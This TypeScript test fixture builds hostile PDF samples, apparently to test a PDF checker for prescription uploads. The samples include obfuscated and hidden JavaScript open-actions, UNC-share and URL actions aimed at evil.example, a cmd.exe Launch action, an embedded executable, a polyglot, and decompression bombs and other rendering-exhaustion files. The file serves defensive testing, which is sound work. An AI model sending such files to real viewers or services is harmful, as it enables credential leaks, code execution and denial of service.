import { deflateSync } from 'node:zlib'
import { pdf, stream } from './prescription-files.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const hiddenScript = [`<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>`]
const megabytes = (count: number): number => count * 1024 ** 2

/** PDFs with active or hidden content; each shows a blue line. */
export const activePdfs: Record<string, Buffer> = {
  'with a script on open': pdf({ catalogue: `/OpenAction ${script}` }),
  'with a script spelled with escapes': pdf({
    catalogue: '/OpenAction << /S /J#61va#53cript /JS (1) >>',
  }),
  'with a script among compressed objects': pdf({
    catalogue: '/OpenAction 50 0 R',
    compressed: hiddenScript,
  }),
  'with an object stream hidden behind a string': pdf({
    objects: ['8 0 obj\n<< /X (obj) >>\nendobj\n'],
    compressed: hiddenScript,
  }),
  'with an object stream hidden behind a name': pdf({
    objects: ['8 0 obj\n<< /X/obj >>\nendobj\n'],
    compressed: hiddenScript,
  }),
  'with an object stream hidden behind a comment': pdf({
    objects: ['8 0 obj\n<< >> % obj stream\nendobj\n'],
    compressed: hiddenScript,
  }),
  'with a jump to a file on a share': pdf({
    catalogue:
      '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  }),
  'with an address on open': pdf({
    catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>',
  }),
  'with a stream that lies elsewhere': pdf({
    objects: [
      '8 0 obj\n<< /F (\\\\\\\\evil.example\\\\x) /FFilter [] /Length 0 >>\nstream\n\nendstream\nendobj\n',
    ],
  }),
  'with a program to start': pdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  'with a link over the page': pdf({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (https://evil.example/) >> >>]',
  }),
  'with a file inside': pdf({
    catalogue:
      '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>] >> >>',
    objects: [stream(8, '/Type /EmbeddedFile', 'MZ TOP SECRET')],
  }),
  'with a form that sends itself': pdf({
    catalogue: '/AcroForm << /Fields [] /XFA [(a) 5 0 R] >>',
    page: '/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>',
  }),
  'with something before its header and after its end': Buffer.concat([
    pdf(),
    Buffer.from('PK\x03\x04 <script>alert(1)</script>'),
  ]),
}

const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`

/** PDFs that are expensive to render. */
export const costlyPdfs: Record<string, () => Buffer> = {
  'ten megabytes of tiny streams': () =>
    pdf({
      objects: [
        Array.from(
          { length: 150_000 },
          (_, at) => `${1000 + at} 0 obj\n<<>>\nstream\nx\nendstream\nendobj\n`,
        ).join(''),
      ],
    }),
  'ten megabytes of escapes': () =>
    pdf({ objects: [`8 0 obj\n<< /${'#41'.repeat(megabytes(3))} 1 >>\nendobj\n`] }),
  'brackets within brackets': () =>
    pdf({ objects: [`8 0 obj\n${nested(megabytes(4))}\nendobj\n`], catalogue: '/Names 8 0 R' }),
  'a content of brackets within brackets': () => pdf({ content: `${nested(megabytes(4))} TJ` }),
  'a content that unpacks to a hundred megabytes': () =>
    pdf({
      objects: [stream(3, '/Filter /FlateDecode', deflateSync(Buffer.alloc(megabytes(100), ' ')))],
    }),
  'a content that unpacks to a gigabyte': () => {
    const once = deflateSync(Buffer.alloc(megabytes(512), 'q '))
    return pdf({ objects: [stream(3, '/Filter /FlateDecode', once)] })
  },
  'a content that unpacks twice': () => {
    const twice = deflateSync(deflateSync(Buffer.alloc(megabytes(900), ' ')))
    return pdf({ objects: [stream(3, '/Filter [/FlateDecode /FlateDecode]', twice)] })
  },
  'a picture of a gigapixel': () =>
    pdf({
      content: 'q 200 0 0 200 0 0 cm /I Do Q',
      page: '/Resources << /XObject << /I 8 0 R >> >>',
      objects: [
        stream(
          8,
          '/Type /XObject /Subtype /Image /Width 32000 /Height 32000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
          deflateSync(Buffer.alloc(megabytes(977))),
        ),
      ],
    }),
  'a page box of a billion points': () => pdf({ box: '0 0 1000000000 1000000000' }),
  'a page box that is a hair': () => pdf({ box: '0 0 0.0001 100000' }),
  'a page tree that bites its tail': () =>
    pdf({ objects: ['2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>\nendobj\n'] }),
  'a hundred million pages': () =>
    pdf({ objects: ['2 0 obj\n<< /Type /Pages /Kids [100 0 R] /Count 100000000 >>\nendobj\n'] }),
  'forms within forms': () =>
    pdf({
      content: '/F8 Do',
      page: '/Resources << /XObject << /F8 8 0 R >> >>',
      objects: Array.from({ length: 40 }, (_, at) =>
        stream(
          8 + at,
          `/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F${9 + at} ${9 + at} 0 R >> >>`,
          `/F${9 + at} Do `.repeat(10),
        ),
      ),
    }),
  'two million curves': () =>
    pdf({ content: `${'0 0 m 9 200 200 9 200 200 c S\n'.repeat(330_000)}` }),
}
